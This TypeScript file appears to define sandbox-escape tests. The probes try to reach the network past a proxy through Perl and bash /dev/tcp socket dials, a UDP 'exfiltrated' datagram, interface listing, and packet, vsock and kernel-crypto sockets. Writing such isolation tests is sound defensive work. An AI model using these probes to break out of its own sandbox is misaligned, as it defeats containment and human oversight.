import type {SandboxAttack} from './attack.ts';
import {pause, tcpBait, udpBait} from './bait.ts';
import {hasIpv6} from './network-rows.ts';

/* Ways out that are not the proxy: dialling, datagrams, other families of sockets. */

const namespace = "a network namespace with nothing in it but the run's proxy";

/** Dials a service of the host's from an empty namespace, past any proxy. */
function dialling({
	host,
	dial,
	...about
}: Pick<SandboxAttack, 'id' | 'title' | 'source'> & {
	readonly host: string;
	readonly dial: (port: number) => string;
}): SandboxAttack {
	return {
		kind: 'sandbox',
		...about,
		answer: namespace,
		network: false,
		prepare: () => tcpBait(host),
		script: (_box, {port}) => dial(port!),
		came: ({output}, _box, bait) => output.includes('hello from the host') && bait.hits!() > 0,
	};
}

export const directAttacks: readonly SandboxAttack[] = [
	dialling({
		id: 'direct-dial',
		title: 'dial a service of the host, past the proxy',
		source: '--noproxy, raw sockets, services on loopback',
		host: '127.0.0.1',
		dial: port =>
			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}); ` +
			`print $s ? <$s> : "no: $!"'`,
	}),
	dialling({
		id: 'direct-dial-shell',
		title: "dial by the shell's /dev/tcp",
		source: 'no program is needed for it',
		host: '127.0.0.1',
		dial: port => `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; cat <&3'`,
	}),
	...(hasIpv6()
		? [
				dialling({
					id: 'direct-dial-v6',
					title: 'dial a service of the host over IPv6',
					source: 'guards that know IPv4 only',
					host: '::1',
					dial: port =>
						"perl -MSocket=:all -e 'socket(S, AF_INET6, SOCK_STREAM, 0); " +
						`print connect(S, pack_sockaddr_in6(${port}, inet_pton(AF_INET6, "::1"))) ? <S> : "no: $!"'`,
				}),
			]
		: []),
	{
		kind: 'sandbox',
		id: 'datagram',
		title: 'send a datagram out',
		source: 'DNS tunnels',
		answer: namespace,
		network: false,
		prepare: () => udpBait(),
		script: (_box, {port}) =>
			`perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => ${port}, ` +
			`Proto => "udp"); print $s->send("exfiltrated") if $s'`,
		async came(_result, _box, bait) {
			await pause(150);
			return bait.hits!() > 0;
		},
	},
	{
		kind: 'sandbox',
		id: 'interfaces',
		title: 'find another way out',
		source: "bridges, tunnels, virtual machines' links",
		answer: namespace,
		network: false,
		script: () => 'tail -n +3 /proc/net/dev | cut -d: -f1; cat /proc/net/route | tail -n +2',
		came: ({output}) => output.split('\n').some(line => line.trim() !== '' && !/^\s*(?:lo)\s*$/.test(line)),
	},
	{
		kind: 'sandbox',
		id: 'packet-socket',
		title: 'open a packet socket',
		source: 'AF_PACKET reaches the wire',
		answer: 'socket families are limited by the system call filter',
		// The filter answers EAFNOSUPPORT (97); anything else is the kernel's own.
		script: () => 'perl -e \'print socket(S, 17, 3, 0) ? "open" : "errno " . ($! + 0)\'',
		came: ({output}) => !output.includes('errno 97'),
	},
	{
		kind: 'sandbox',
		id: 'hypervisor-socket',
		title: 'open a socket to the hypervisor',
		source: 'AF_VSOCK is in no network namespace',
		answer: 'socket families are limited by the system call filter',
		script: () => 'perl -e \'print socket(S, 40, 1, 0) ? "open" : "errno " . ($! + 0)\'',
		// A kernel without it gives the filter's own answer; then there is nothing to reach.
		came: ({output}) => !output.includes('errno 97'),
	},
	{
		kind: 'sandbox',
		id: 'kernel-crypto-socket',
		title: "open a socket into the kernel's crypto",
		source: 'AF_ALG had many holes',
		answer: 'socket families are limited by the system call filter',
		script: () => 'perl -e \'print socket(S, 38, 5, 0) ? "open" : "errno " . ($! + 0)\'',
		came: ({output}) => !output.includes('errno 97'),
	},
];
